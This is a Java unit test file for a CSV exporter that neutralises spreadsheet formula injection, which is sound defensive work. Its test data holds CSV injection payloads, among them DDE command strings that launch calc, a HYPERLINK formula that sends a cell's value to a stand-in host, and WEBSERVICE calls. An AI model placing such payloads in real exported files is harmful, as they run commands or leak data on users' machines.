package org.sightline.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// EX-05: a spreadsheet must find nothing to run.
class SafeCsvTest {

  @Test
  void aRowOfAnotherWidthIsRefusedByItsNumber() {
    assertThatThrownBy(
            () -> SafeCsv.of(List.of("a", "b"), List.of(List.of("1", "2"), List.of("3"))))
        .hasMessage("Row 2 has 1 cells, the header has 2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"https://x.example/?\"&A1)",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\0=1+1",
        "\uFF1D1+1",
        "\uFF0B1+1",
        "\uFF0D1+1",
        "\uFF20SUM(A1)",
        "   =1+1",
        "\u00A0=1+1",
        "\u2003=1+1",
        "\u3000=1+1",
        "\uFEFF=1+1",
        "\u200B=1+1",
        "\u200D=1+1",
        "\u2060=1+1",
        "\u00AD=1+1",
        "\u200E=1+1",
        "=WEBSERVICE(\"https://x.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1|cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\uFF1Dcmd|' /C calc'!A0",
        "=",
        "-"
      })
  void aTextASpreadsheetWouldRunGetsAnApostrophe(String text) throws IOException {
    assertThat(cellOf(text)).isEqualTo("'" + text);
    assertThat(headerOf(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"Canteen", "a=b", "7Q", "'quoted'", "", " ", "Zoë مريم 日本 \uD83D\uDE00", "1-2"})
  void aPlainTextStaysAsItIs(String text) throws IOException {
    assertThat(cellOf(text)).isEqualTo(text);
  }

  @Test
  void numbersStayNumbersMinusSignAndAll() throws IOException {
    assertThat(cellOf(-5)).isEqualTo("-5");
    assertThat(cellOf(1800L)).isEqualTo("1800");
    assertThat(cellOf(new BigDecimal("-0.25"))).isEqualTo("-0.25");
  }

  @Test
  void anAbsentCellIsEmpty() throws IOException {
    assertThat(cellOf(null)).isEmpty();
  }

  @Test
  void textWithCommasQuotesAndLineBreaksReadsBack() throws IOException {
    for (String text : List.of("a,b", "say \"no\"", "two\r\nlines", "two\nlines", "\"", ",")) {
      assertThat(cellOf(text)).isEqualTo(text);
    }
  }

  /// Where a spreadsheet takes semicolons or tabs for the ends of cells, nothing after one starts a
  /// formula; quotes alone hold it back in the first cell only.
  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '"',
      value = {
        "a;=1+1 ~ a;'=1+1",
        "a|=1+1 ~ a|'=1+1",
        "a; \u00A0+cmd|' /C calc'!A0 ~ a;' \u00A0+cmd|' /C calc'!A0",
        "a;;@SUM(A1) ~ a;;'@SUM(A1)",
        "=1;-2;\uFF1D3 ~ '=1;'-2;'\uFF1D3",
        "a;b=1 ~ a;b=1",
        "a; b|c ~ a; b|c"
      })
  void whatFollowsASignInsideATextStartsNoCell(String text, String written) throws IOException {
    assertThat(cellOf(text)).isEqualTo(written);
    assertThat(SafeCsv.unmarked(written)).isEqualTo(text);
  }

  @Test
  void whatFollowsATabOrALineBreakInsideATextStartsNoCellEither() throws IOException {
    for (String cut : List.of("\t", "\r", "\n")) {
      assertThat(cellOf("a" + cut + "=1+1")).isEqualTo("a" + cut + "'=1+1");
      assertThat(cellOf(cut + "=1+1")).isEqualTo("'" + cut + "'=1+1");
      assertThat(SafeCsv.unmarked("'" + cut + "'=1+1")).isEqualTo(cut + "=1+1");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"'", "''=1", "'a;'b", "a;'b", "it's", "'a;=1", "Notes:\n- one\n- two"})
  void whatWasWrittenIsReadBackAsItWas(String text) throws IOException {
    assertThat(SafeCsv.unmarked(cellOf(text))).isEqualTo(text);
  }

  @Test
  void aStampIsAColumnOfItsOwnAndEveryRowHasItsCode() throws IOException {
    var stamp = new Stamp("0123456789ABCDEF", 12, "Copy 12, taken by Jobina Invented.");

    var bytes = SafeCsv.of(List.of("place"), List.of(List.of("Hall"), List.of("Lockers")), stamp);

    assertThat(read(bytes, 0)).isEqualTo("Copy 12, taken by Jobina Invented. 0123-4567-89AB-CDEF");
    assertThat(read(bytes, 1)).isEqualTo("0123-4567-89AB-CDEF");
    assertThat(read(bytes, 2)).isEqualTo("0123-4567-89AB-CDEF");
  }

  @Test
  void quotesAreDoubledAndRecordsEndAsInRfc4180() {
    var bytes = SafeCsv.of(List.of("place", "red"), List.of(List.of("Hall, \"big\"", 3)));

    assertThat(new String(bytes, StandardCharsets.UTF_8))
        .isEqualTo("\uFEFF\"place\",\"red\"\r\n\"Hall, \"\"big\"\"\",3\r\n");
  }

  @Test
  void startsWithAByteOrderMarkOnce() {
    var bytes = SafeCsv.of(List.of("ort"), List.of(List.of("ē")));

    assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    assertThat(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8))
        .isEqualTo("\"ort\"\r\n\"ē\"\r\n");
  }

  private static String cellOf(@Nullable Object cell) throws IOException {
    return read(SafeCsv.of(List.of("first", "second"), List.of(Arrays.asList("x", cell))), 1);
  }

  private static String headerOf(String name) throws IOException {
    return read(SafeCsv.of(List.of("first", name), List.of()), 0);
  }

  private static String read(byte[] bytes, int record) throws IOException {
    var text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
    try (var csv = CsvReader.builder().ofCsvRecord(text)) {
      return csv.stream().toList().get(record).getField(1);
    }
  }
}
